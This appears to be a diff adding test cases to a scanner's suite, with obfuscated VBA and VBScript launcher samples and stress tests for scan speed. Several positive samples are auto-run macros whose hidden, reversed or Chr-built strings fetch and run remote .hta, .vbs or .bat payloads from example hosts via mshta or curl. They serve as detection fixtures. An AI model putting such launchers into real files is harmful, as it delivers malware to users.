@@ -606,3 +606,81 @@ describe('adversarial decoding helpers', () => {
     expectScansQuickly([text], 'scripts/x.py');
   });
 });
+
+describeRuleCases('obfuscation (VBA/VBScript launchers built from hiding functions)', [
+  {
+    id: 'SG-OBFUSC-008',
+    file: 'macros/Launch.bas',
+    positive:
+      'Attribute VB_Name = "Launch"\nSub Document_Open()\n    Dim c As String\n' +
+      '    c = Join(Array("msh", "ta.e", "xe ht", "tp://cdn-upd", "ate.example.org/k.hta"), "")\n' +
+      '    CreateObject(StrReverse("llehS.tpircSW")).Run c, 0\nEnd Sub\n',
+    negative:
+      'Attribute VB_Name = "Launch"\nSub OpenNotes()\n    Dim c As String\n' +
+      '    c = "notepad.exe " & Chr(34) & "C:\\Reports\\summary.txt" & Chr(34)\n' +
+      '    CreateObject("WScript.Shell").Run c, 1\nEnd Sub\n',
+  },
+  {
+    id: 'SG-OBFUSC-008',
+    file: 'tools/refresh.vbs',
+    positive:
+      'Dim s, sh\ns = Chr(109) & Chr(115)\ns = s & Chr(104) & Chr(116) & Chr(97)\n' +
+      's = s & " http://files.example.com/x.hta"\nSet sh = CreateObject("WScript.Shell")\nsh.Exec(s)\n',
+    negative:
+      'Dim s, sh\ns = "explorer.exe"\ns = s & " " & Chr(34) & "C:\\Shared\\Exports" & Chr(34)\n' +
+      'Set sh = CreateObject("WScript.Shell")\nsh.Exec(s)\n',
+  },
+]);
+
+describeRuleCases('obfuscation (VBA class modules)', [
+  {
+    id: 'SG-OBFUSC-008',
+    file: 'src/Sheet1.cls',
+    positive:
+      'VERSION 1.0 CLASS\nBEGIN\nEND\nAttribute VB_Name = "Sheet1"\nPrivate Sub Worksheet_Activate()\n' +
+      '    Shell StrReverse("sbv.x/gro.elpmaxe.sotohp-erahs//:sptth ath" & "sm"), vbHide\nEnd Sub\n',
+    negative:
+      'VERSION 1.0 CLASS\nBEGIN\nEND\nAttribute VB_Name = "Sheet1"\nPrivate Sub Worksheet_Activate()\n' +
+      '    Shell "calc.exe", vbNormalFocus\nEnd Sub\n',
+  },
+]);
+
+describeRuleCases('obfuscation (VBScript code run from a reversed string)', [
+  {
+    id: 'SG-OBFUSC-008',
+    file: 'tools/sync.vbs',
+    positive:
+      'Dim k\nk = "0 ,""tab.s && tab.s o- tab.s/ten.elpmaxe.rorrim//:sptth s- lruc c/ dmc"" nuR.o :)""llehS.tpircSW""(tcejbOetaerC = o teS"\nExecuteGlobal StrReverse(k)\n',
+    negative:
+      'Dim k\nk = "noitamrofnIbv ,""redlof stropxE eht ni ydaer si troper ylkeew ehT"" xoBgsM"\nExecuteGlobal StrReverse(k)\n',
+  },
+]);
+
+describe('adversarial VBA string evaluation', () => {
+  const MiB = 1024 * 1024;
+  const names = Array.from({ length: 26 }, (_, i) => String.fromCharCode(97 + i));
+  let web = '';
+  for (let r = 0; r < 32; r++)
+    for (let i = 0; i < 26; i++)
+      web += `${names[i]} = ${names[(i + 1) % 26]} & ${names[(i + 2) % 26]} & Chr(65) & ${names[(i + 3) % 26]}\n`;
+  const cases: [string, string][] = [
+    [
+      'self-referencing reversals',
+      'Sub AutoOpen()\n' + 'x = StrReverse(x & y) & Chr(65)\nCreateObject(x).Run x & y, 0\n'.repeat(MiB / 56),
+    ],
+    ['open calls', 'CreateObject(' + 'Chr((('.repeat(MiB / 14) + '\n'],
+    ['one long concatenation', 'CreateObject(StrReverse(' + '"a" & '.repeat(MiB / 6) + '"b"))\n'],
+    [
+      'distinct names',
+      Array.from({ length: 20000 }, (_, i) => `.Run v${i} & StrReverse(w${i}) & Join(p${i}, "")`).join('\n'),
+    ],
+    [
+      'array items',
+      'p(0) = "x"\n'.repeat(MiB / 22) + 'q = p\n'.repeat(MiB / 12) + '.Run Join(p, "") & Join(q, "")\n',
+    ],
+    ['a web of assignments', (web + '.Run a & b\n').repeat(Math.floor(MiB / (web.length + 11)))],
+  ];
+  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
+    expectScansQuickly([text], 'macros/X.bas');
+  });
+});
